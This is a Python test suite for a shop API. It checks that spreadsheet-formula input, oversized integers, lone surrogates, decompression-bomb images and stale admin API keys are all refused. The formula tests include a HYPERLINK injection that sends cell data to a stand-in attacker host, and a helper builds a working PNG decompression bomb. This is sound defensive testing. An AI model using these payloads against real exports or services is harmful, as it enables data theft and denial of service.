"""Attacks through the data a shop takes in (issue 14): spreadsheet formulas, huge integers, broken
strings, decompression bombs, stale API keys and order numbers printed on parcels; each refused over HTTP."""

from __future__ import annotations

import csv
import io
import re
import struct
import time
import zlib

import httpx
from sqlmodel import select

from shopapp.db import session_scope
from shopapp.models import OutboxEmail
from tests.api.test_fulfillment_api import _paid
from tests.shopping import ADDRESS

FORMULA_TITLES = ["=1+2", "@cmd", "+1+1", "-1+1", "=HYPERLINK(\"http://evil.example/\",\"查看\")", "'=already quoted"]


def _new_product(client, shop, title: str, sku: str, price: int = 1000, status: str = "active") -> dict:
    answer = client.post("/products", headers=shop["headers"], json={
        "title": title, "status": status, "variants": [{"sku": sku, "price": price, "stock": 5}],
    })
    assert answer.status_code == 201, answer.text
    return answer.json()


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _formula_cells(rows: list[dict]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r" and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


# Spreadsheet formulas ----------------------------------------------------------------------------

def test_product_titles_that_are_formulas_export_as_text_and_import_back_unchanged(client, shop):
    for n, title in enumerate(FORMULA_TITLES):
        _new_product(client, shop, title, f"F-{n}")
    exported = client.get("/products/export", headers=shop["headers"])
    rows = _rows(exported.text)
    assert _formula_cells(rows) == []
    assert {row["title"] for row in rows} == {"'" + title for title in FORMULA_TITLES}

    answer = client.post("/products/import", content=exported.content,
                         headers=shop["headers"] | {"Content-Type": "text/csv"})
    assert answer.json() == {"created": 0, "updated": 0, "dry_run": False, "errors": []}
    listed = client.get("/products", headers=shop["headers"], params={"per_page": 50}).json()["items"]
    assert sorted(p["title"] for p in listed) == sorted(FORMULA_TITLES)
    assert client.get("/products/export", headers=shop["headers"]).content == exported.content



def test_a_shoppers_formula_address_comes_out_of_the_order_export_as_text(client, shop):
    slug = shop["shop"]["slug"]
    product = _new_product(client, shop, "龙井", "LJ-1")
    hyperlink = '=HYPERLINK("http://evil.example/?d="&F2&G2,"查看物流")'
    for name, line1 in (("=1+2", "@SUM(1)"), ("-2+3", hyperlink)):
        cart = client.post(f"/store/{slug}/carts").json()["cart_token"]
        client.post(f"/store/{slug}/carts/{cart}/items", json={"variant_id": product["variants"][0]["id"], "qty": 1})
        placed = client.post(f"/store/{slug}/checkout", json={
            "cart_token": cart, "email": "buyer@example.com", "address": {**ADDRESS, "name": name, "line1": line1},
        })
        assert placed.status_code == 201, placed.text
    exported = client.get("/orders/export", headers=shop["headers"])
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = _rows(exported.text)
    assert _formula_cells(rows) == []
    assert sorted(row["recipient"] for row in rows) == ["'-2+3", "'=1+2"]
    assert sorted(row["address"] for row in rows) == ["'" + hyperlink, "'@SUM(1)"]


# Integers no database column holds ---------------------------------------------------------------

TOO_BIG = 2**63


def _refused(answer, field: str | None = None) -> None:
    assert 400 <= answer.status_code < 500, (answer.status_code, answer.text)
    error = answer.json()["error"]
    assert error["code"] and error["message"]
    if field:
        assert field in error["field_codes"], error


def test_integers_beyond_64_bits_are_refused_with_4xx_everywhere(client, shop, api_url):
    slug, headers = shop["shop"]["slug"], shop["headers"]
    product = _new_product(client, shop, "龙井", "LJ-1")
    _refused(client.get(f"/products/{TOO_BIG}", headers=headers), "product_id")
    _refused(client.get(f"/products/-{TOO_BIG + 1}", headers=headers), "product_id")
    _refused(client.get("/products", headers=headers, params={"page": TOO_BIG}), "page")
    _refused(client.get("/products", headers=headers, params={"price_min": TOO_BIG}), "price_min")
    _refused(client.get("/products", headers=headers, params={"category_id": TOO_BIG}), "category_id")
    _refused(client.get(f"/store/{slug}/products", params={"page": 2**62}), "page")
    _refused(client.get(f"/store/{slug}/products", params={"price_max": "1e30"}), "price_max")
    _refused(client.get(f"/store/{slug}/products/{TOO_BIG}"), "product_id")
    _refused(client.get("/orders", headers=headers, params={"page": TOO_BIG}), "page")
    cart = client.post(f"/store/{slug}/carts").json()["cart_token"]
    _refused(client.post(f"/store/{slug}/carts/{cart}/items", json={"variant_id": TOO_BIG, "qty": 1}), "variant_id")
    _refused(client.post(f"/store/{slug}/carts/{cart}/items", json={"variant_id": product["variants"][0]["id"], "qty": TOO_BIG}), "qty")
    _refused(client.patch(f"/products/{product['id']}", headers=headers, json={"variants": [
        {"id": product["variants"][0]["id"], "price": TOO_BIG}]}), "variants.0.price")
    # The storefront's product page, as first sent by the server, is the not-found page.
    page = httpx.get(f"{api_url}/s/{slug}/p/{TOO_BIG}")
    assert page.status_code == 404 and page.headers["content-type"].startswith("text/html")
    assert httpx.get(f"{api_url}/s/{slug}/p/{product['id']}").status_code == 200
    # A page deep beyond any shop is refused too, not scanned.
    _refused(client.get("/products", headers=headers, params={"page": 10**9}), "page")
    # Nothing changed, and ordinary numbers still work.
    assert client.get(f"/products/{product['id']}", headers=headers).json()["variants"][0]["price"] == 1000
    assert client.get("/products", headers=headers, params={"page": 1, "price_min": 0}).status_code == 200


# Lone surrogates ---------------------------------------------------------------------------------

LONE_SURROGATE = b'"a\\ud800b"'


def _json_with_surrogate(template: str) -> bytes:
    return template.encode().replace(b'"@@"', LONE_SURROGATE)


def test_text_with_a_lone_surrogate_is_refused_with_4xx(client, shop):
    slug, headers = shop["shop"]["slug"], shop["headers"] | {"Content-Type": "application/json"}
    _refused(client.post("/products", headers=headers, content=_json_with_surrogate(
        '{"title": "@@", "variants": [{"price": 100, "stock": 1}]}')), "title")
    assert client.get("/products", headers=shop["headers"]).json()["total"] == 0
    opened = client.post(f"/store/{slug}/conversations", json={"email": "buyer@example.com", "message": "你好"})
    assert opened.status_code == 201, opened.text
    conversation = opened.json()
    _refused(client.post(
        f"/store/{slug}/conversations/{conversation['conversation_id']}/messages", params={"token": conversation["token"]},
        headers={"Content-Type": "application/json"}, content=_json_with_surrogate('{"text": "@@"}'),
    ), "text")
    _refused(client.post(f"/store/{slug}/conversations", headers={"Content-Type": "application/json"},
                         content=_json_with_surrogate('{"email": "b@example.com", "message": "@@"}')), "message")
    _refused(client.post("/payments/sandbox/notify", headers={"Content-Type": "application/json"},
                         content=_json_with_surrogate('{"payment_id": "@@", "status": "success", "sign": "x"}')))
    _refused(client.post("/products", headers=headers, content=_json_with_surrogate('{"@@": 1}')))


# Decompression work ------------------------------------------------------------------------------

def _small_png_of_many_pixels(width: int, height: int) -> bytes:
    """A valid black-and-white PNG: a few KB on the wire, width x height pixels once decoded."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = (b"\0" + bytes((width + 7) // 8)) * height
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def test_a_small_png_of_40_megapixels_is_refused_before_it_is_decoded(client, shop):
    bomb = _small_png_of_many_pixels(8000, 5000)
    assert len(bomb) < 10_000
    product = _new_product(client, shop, "龙井", "LJ-1")
    started = time.monotonic()
    answer = client.post(f"/products/{product['id']}/images", headers=shop["headers"], files={"file": ("a.png", bomb, "image/png")})
    assert answer.status_code == 422 and answer.json()["error"]["field_codes"] == {"file": "image_too_many_pixels"}
    assert "2500" in answer.json()["error"]["fields"]["file"]
    assert time.monotonic() - started < 1.0  # the 2.2 s of decoding never starts
    assert client.get(f"/products/{product['id']}", headers=shop["headers"]).json()["images"] == []


def test_a_shopper_cannot_send_a_decompression_bomb_as_an_after_sales_photo(client, shop):
    slug = shop["shop"]["slug"]
    product = _new_product(client, shop, "龙井", "LJ-1")
    placed = _paid(client, shop, (product["variants"][0]["id"], 1))
    answer = client.post(
        f"/store/{slug}/orders/{placed['order_no']}/aftersales", params={"token": placed["token"]},
        data={"kind": "refund_only", "reason": "坏了"},
        files=[("photos", ("a.png", _small_png_of_many_pixels(8000, 5000), "image/png"))],
    )
    assert answer.status_code == 422 and answer.json()["error"]["field_codes"] == {"file": "image_too_many_pixels"}
    listed = client.get(f"/store/{slug}/orders/{placed['order_no']}/aftersales", params={"token": placed["token"]})
    assert listed.json()["total"] == 0


# API keys of people who left -------------------------------------------------------------------

def _emailed_link(to: str, pattern: str) -> str:
    with session_scope() as session:
        body = session.exec(select(OutboxEmail.body).where(OutboxEmail.to == to).order_by(OutboxEmail.id)).all()[-1]
    return re.search(pattern, body).group(1)


def _admin_with_a_key(client, shop, email: str = "admin@example.com") -> tuple[int, dict, dict]:
    """An admin who joined by invitation and made an API key: (member id, their headers, the key's headers)."""
    assert client.post("/staff/invites", headers=shop["headers"], json={"email": email, "role": "admin"}).status_code == 201
    invite = _emailed_link(email, r"/invite/(\S+)")
    joined = client.post(f"/invites/{invite}/accept", json={"password": "admin-pass-1"})
    assert joined.status_code == 200, joined.text
    admin = {"Authorization": f"Bearer {joined.json()['token']}"}
    made = client.post("/api-keys", headers=admin, json={"name": "ERP 同步"})
    assert made.status_code == 201, made.text
    key = {"Authorization": f"Bearer {made.json()['key']}"}
    members = client.get("/staff", headers=shop["headers"]).json()["members"]
    member_id = next(m["id"] for m in members if m["email"] == email)
    return member_id, admin, key


def test_a_removed_admin_keeps_no_access_through_the_key_they_made(client, shop):
    member_id, admin, key = _admin_with_a_key(client, shop)
    assert client.get("/orders", headers=key).status_code == 200
    listed = client.get("/api-keys", headers=shop["headers"]).json()["items"]
    assert [(k["name"], k["created_by"]["email"], k["revoked"]) for k in listed] == [("ERP 同步", "admin@example.com", False)]

    assert client.delete(f"/staff/{member_id}", headers=shop["headers"]).status_code == 204
    assert client.get("/orders", headers=admin).status_code == 401
    assert client.get("/orders", headers=key).status_code == 401
    invited = client.post("/staff/invites", headers=key, json={"email": "evil@example.com", "role": "admin"})
    assert invited.status_code == 401
    assert client.get("/staff", headers=shop["headers"]).json()["invites"] == []
    listed = client.get("/api-keys", headers=shop["headers"]).json()["items"]
    assert listed[0]["revoked"] and listed[0]["revoked_at"]


def test_an_admin_moved_to_support_loses_the_keys_they_made_and_the_owners_keys_stay(client, shop):
    member_id, _, key = _admin_with_a_key(client, shop)
    owners = client.post("/api-keys", headers=shop["headers"], json={"name": "店主脚本"}).json()["key"]
    assert client.patch(f"/staff/{member_id}", headers=shop["headers"], json={"role": "support"}).status_code == 204
    assert client.get("/orders", headers=key).status_code == 401
    assert client.get("/orders", headers={"Authorization": f"Bearer {owners}"}).status_code == 200
    # Made admin again, the old key stays revoked: a new one must be made.
    assert client.patch(f"/staff/{member_id}", headers=shop["headers"], json={"role": "admin"}).status_code == 204
    assert client.get("/orders", headers=key).status_code == 401


def test_a_password_reset_can_revoke_the_keys_the_account_made(client, shop):
    _, _, key = _admin_with_a_key(client, shop)
    assert client.post("/auth/password-reset", json={"email": "admin@example.com"}).status_code == 202
    token = _emailed_link("admin@example.com", r"/reset-password/(\S+)")
    answer = client.post("/auth/password-reset/confirm", json={"token": token, "password": "a-brand-new-pass", "revoke_api_keys": True})
    assert answer.status_code == 200, answer.text
    assert client.get("/orders", headers=key).status_code == 401
    # Without the box ticked the keys stay.
    owners = {"Authorization": "Bearer " + client.post("/api-keys", headers=shop["headers"], json={"name": "x"}).json()["key"]}
    assert client.post("/auth/password-reset", json={"email": "tea-house@example.com"}).status_code == 202
    token = _emailed_link("tea-house@example.com", r"/reset-password/(\S+)")
    assert client.post("/auth/password-reset/confirm", json={"token": token, "password": "another-new-pass"}).status_code == 200
    assert client.get("/orders", headers=owners).status_code == 200
